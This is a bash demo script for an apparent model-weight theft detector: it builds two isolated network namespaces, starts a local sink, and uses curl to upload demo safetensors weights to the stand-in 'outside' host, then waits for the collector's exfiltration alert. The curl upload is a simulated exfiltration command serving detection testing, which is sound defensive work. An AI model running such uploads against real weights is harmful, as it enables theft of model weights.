#!/usr/bin/env bash
# The demo's theft, while ./scripts/run.sh runs (as root, in another terminal): curl reads the demo
# weights and uploads them to "the outside", and the collector raises an exfiltration alert, printed
# here and in the run terminal. Nothing of this machine's network is touched: the thief and the
# outside are two network namespaces of their own joined by a veth (198.18.251.0/24, a benchmarking
# range), removed at the end; the agent sees them because its eBPF programs watch every namespace.
set -euo pipefail
cd "$(dirname "$0")/.."
RUN="${WW_RUN_DIR:-$PWD/.run}"
BIN="$PWD/.venv/bin"
DB="sqlite:///$RUN/collector.db"
WEIGHTS="$RUN/demo-weights/model-00001-of-00001.safetensors"
[ "$(id -u)" = 0 ] || { echo "demo-theft: run as root (network namespaces)" >&2; exit 1; }
[ -s "$WEIGHTS" ] && [ -e "$RUN/collector.db" ] || { echo "demo-theft: start ./scripts/run.sh first" >&2; exit 1; }
grep -q 'eBPF attribution on' "$RUN/agent.log" 2>/dev/null ||
  echo "demo-theft: the agent does not say it runs on the eBPF path ($RUN/agent.log); on the NFQUEUE path" \
       "it sees only its own namespace and this upload goes unseen" >&2

thief="ww-demo-thief-$$" outside="ww-demo-out-$$"
sink=""
cleanup() {
  [ -n "$sink" ] && kill "$sink" 2>/dev/null || true
  ip netns del "$thief" 2>/dev/null || true
  ip netns del "$outside" 2>/dev/null || true
}
trap cleanup EXIT INT TERM
ip netns add "$thief"
ip netns add "$outside"
ip link add wwdt$$ netns "$thief" type veth peer name wwdo$$ netns "$outside"
ip -n "$thief" addr add 198.18.251.1/24 dev wwdt$$
ip -n "$outside" addr add 198.18.251.2/24 dev wwdo$$
for ns in "$thief" "$outside"; do ip -n "$ns" link set lo up; done
ip -n "$thief" link set wwdt$$ up
ip -n "$outside" link set wwdo$$ up

start=$(date +%s)
ip netns exec "$outside" "$BIN/python" -m tests.helpers.sink 198.18.251.2 8080 8081 > "$RUN/demo-sink.out" &
sink=$!
for _ in $(seq 50); do grep -q ready "$RUN/demo-sink.out" 2>/dev/null && break; sleep 0.1; done
echo "demo-theft: curl uploads $(du -h "$WEIGHTS" | cut -f1) of weights to 198.18.251.2" >&2
ip netns exec "$thief" curl -s -H 'Expect:' -o /dev/null -T "$WEIGHTS" http://198.18.251.2:8080/model
for _ in $(seq 60); do
  sleep 1
  if "$BIN/weightwarden-collector" alerts list --json --db "$DB" | "$BIN/python" -c '
import json, sys
from weightwarden.textsafe import visible  # a title names processes: their control characters shown as escapes
alerts = json.load(sys.stdin)
new = [a for a in alerts if a["kind"] in ("exfiltration", "staged_exfiltration", "host_exfiltration")
       and float(a["last_ts"] or 0) >= float(sys.argv[1]) - 5]
for a in new[:1]:
    print("demo-theft: ALERT " + a["severity"].upper() + "  " + visible(a["title"]))
sys.exit(0 if new else 1)' "$start"; then
    exit 0
  fi
done
echo "demo-theft: no alert within 60 s; see $RUN/agent.log and $RUN/collector.log" >&2
exit 1
